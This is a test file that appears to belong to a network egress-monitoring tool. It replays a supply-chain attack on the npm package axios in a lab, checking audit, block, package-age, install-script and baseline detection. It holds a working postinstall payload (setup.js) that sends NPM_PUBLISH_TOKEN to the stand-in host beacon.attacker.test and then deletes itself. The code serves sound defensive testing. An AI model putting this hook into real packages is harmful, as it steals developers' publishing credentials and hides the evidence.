// docs/incidents/axios.md
import t from 'tap'
import { openLab } from '../../lab/lab.ts'
import { whyNoLab } from '../../lab/requirements.ts'
import { npmInstallFrom, offer, project } from './npm-install.ts'
import { baselineOf, itIsTold, itWasStopped, itWorked, replay, type Incident } from './replay.ts'

t.setTimeout(240_000)

const registry = 'registry.npmjs.org'
const beacon = 'beacon.attacker.test'
const token = 'tidegate-replay-publish-token'

/** Tells who it is and asks for what it is to run; then it removes what could be found. */
const setup = `const { request } = require('node:http')
const { rmSync } = require('node:fs')
const call = request({ host: '${beacon}', port: 8000, path: '/6202033', method: 'POST', timeout: 5000 }, answer => answer.resume())
call.on('error', () => {})
call.end(JSON.stringify({ platform: process.platform, token: process.env.NPM_PUBLISH_TOKEN }))
process.on('exit', () => rmSync(__filename))
`

const hourMs = 3_600_000
const publishedAt = new Date(Date.now() - hourMs).toISOString()

const packages = [
  {
    manifest: { name: 'axios', version: '1.14.1', main: 'index.js', dependencies: { 'plain-crypto-js': '^4.2.1' } },
    files: [{ path: 'index.js', content: "module.exports = 'axios'\n" }],
    publishedAt,
  },
  {
    manifest: { name: 'plain-crypto-js', version: '4.2.1', scripts: { postinstall: 'node setup.js' } },
    files: [{ path: 'setup.js', content: setup }],
    publishedAt,
  },
]

/** What there was before: the same without the one line. */
const clean = [{ manifest: { name: 'axios', version: '1.14.0', main: 'index.js' }, files: packages[0]?.files ?? [] }]

const incident: Incident<'install' | 'use'> = {
  attacker: [beacon],
  honest: [registry],
  spoils: [token],
  policy: `allow:\n  - GET,HEAD ${registry}\n`,
  env: { NPM_PUBLISH_TOKEN: token },
  steps: {
    install: `${project({ name: 'shop', version: '1.0.0', dependencies: { axios: '^1.14.0' } })} && ${npmInstallFrom(registry)}`,
    use: `cd app && node -e 'if (require("axios") !== "axios") process.exit(1)' && test ! -e node_modules/plain-crypto-js/setup.js`,
  },
}

t.test('axios, 2026: a dependency that is only there for its install script', { skip: whyNoLab() }, async t => {
  await using lab = await openLab()
  await offer(lab, packages, registry)
  const told = { host: beacon, reason: 'no-rule', exe: /\/node$/, parent: /\/(?:da)?sh$/ }

  await t.test('in audit: a new host, a new port, by a script below npm', async t => {
    const run = await replay(lab, incident, 'audit')
    await itWorked(t, lab, incident)
    itIsTold(t, run, { ...told, verdict: 'observe', layer: 'http', port: 8000, method: 'POST' })
    t.match(run.markdown, 'setup.js')
  })
  await t.test('in block: not even its name is asked for; the install is what it was', async t => {
    const run = await replay(lab, incident, 'block')
    await itWasStopped(t, lab, incident)
    itIsTold(t, run, { ...told, verdict: 'deny', layer: 'dns' })
    for (const step of ['install', 'use'] as const) t.equal(run.step(step).exitCode, 0, run.step(step).stderr)
  })
  await t.test('where the policy wants releases that are a week old: not installed', async t => {
    const policy = `${incident.policy}packages: { minimumAgeDays: 7 }\n`
    const run = await replay(lab, { ...incident, policy }, 'block')
    await itWasStopped(t, lab, incident)
    t.match(run.findings[0], {
      kind: 'package-too-young',
      note: /(?:axios@1\.14\.1|plain-crypto-js@4\.2\.1) was published/,
    })
    t.not(run.step('install').exitCode, 0)
    const files = run.lines.filter(({ details }) => details?.['purl'] !== undefined)
    t.ok(files.length > 0)
    for (const { verdict, details } of files)
      t.match({ verdict, details }, { verdict: 'deny', details: { sha256: undefined } })
  })
  await t.test('where a policy lets everything out: install scripts as a class', async t => {
    const policy =
      'allow:\n  - "*.npmjs.org"\n  - http://beacon.attacker.test:8000\npackages: { installScripts: deny }\n'
    const open = { ...incident, policy }
    const seen = await replay(lab, open, 'audit')
    await itWorked(t, lab, incident)
    t.match(seen.findings, [{ kind: 'install-script', host: beacon, note: /plain-crypto-js/ }])
    const run = await replay(lab, open, 'block')
    t.strictSame(await lab.sink.lines(), [], 'the sink is empty')
    t.match(
      run.lines.find(({ host, layer }) => host === beacon && layer === 'http'),
      { verdict: 'deny', reason: 'denied-by-rule', rule: 'packages.installScripts npm plain-crypto-js@4.2.1' },
    )
    t.equal(run.step('install').exitCode, 0, run.step('install').stderr)
  })
  await t.test('against a baseline: a host that no release before it spoke to', async t => {
    await offer(lab, clean, registry)
    const options = await baselineOf(lab, await replay(lab, incident, 'audit'))
    t.strictSame((await replay(lab, { ...incident, options }, 'audit')).findings, [], 'the same again is quiet')
    await offer(lab, packages, registry)
    const run = await replay(lab, { ...incident, options }, 'audit')
    t.match(run.findings, [{ kind: 'new-host', host: beacon, process: /setup\.js/ }])
  })
})
